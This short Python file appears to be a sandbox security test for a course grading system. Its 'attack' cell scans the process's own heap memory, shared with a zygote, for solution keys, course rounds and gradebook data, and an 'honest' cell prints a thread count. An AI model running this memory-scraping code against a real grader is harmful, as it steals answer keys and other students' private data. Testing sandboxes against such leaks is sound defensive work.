"""Reads its own memory, which it shares with the zygote, for keys, solutions and other students.

Covers: A6, A16
"""

# %% attack
import re

wanted = re.compile(b"BEGIN " + b"SOLUTION|course-" + b"rounds|grade" + b"book.db")
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        if "[heap]" not in line or "rw" not in line:
            continue
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        memory.seek(low)
        for found in wanted.finditer(memory.read(min(high - low, 256 << 20))):
            print("BREACH:", found[0])

# %% honest
with open("/proc/self/status") as status:
    print(next(line for line in status if line.startswith("Threads")))
